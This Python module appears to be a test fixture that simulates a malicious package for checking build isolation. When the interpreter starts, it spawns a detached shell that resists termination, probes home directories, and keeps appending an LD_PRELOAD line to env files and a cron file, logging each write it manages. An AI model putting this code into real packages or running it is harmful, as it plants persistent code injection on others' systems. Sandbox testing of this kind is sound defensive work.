"""The package's attack when its interpreter starts: it keeps a process running, and writes outside of its folder."""

from __future__ import annotations

import subprocess
import sys

SCRIPT = r"""
trap '' TERM HUP
grep NoNewPrivs /proc/self/status >>"$HOME/trace"
ls /root /home >/dev/null 2>&1 && echo "reads homes" >>"$HOME/trace"
while :; do
    for file in /srv/shop/shared/app.env "$1/../../.env" /etc/cron.d/intruder; do
        { echo LD_PRELOAD=/tmp/intruder.so >>"$file"; } 2>/dev/null && echo "wrote $file" >>"$HOME/trace"
    done
    sleep 0.1
done
"""


def act() -> None:
    """Start a process that outlives the build, unless this is the finished release."""
    if "/work/" in sys.prefix:
        subprocess.Popen(
            ["/bin/sh", "-c", SCRIPT, "intruder", sys.prefix],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
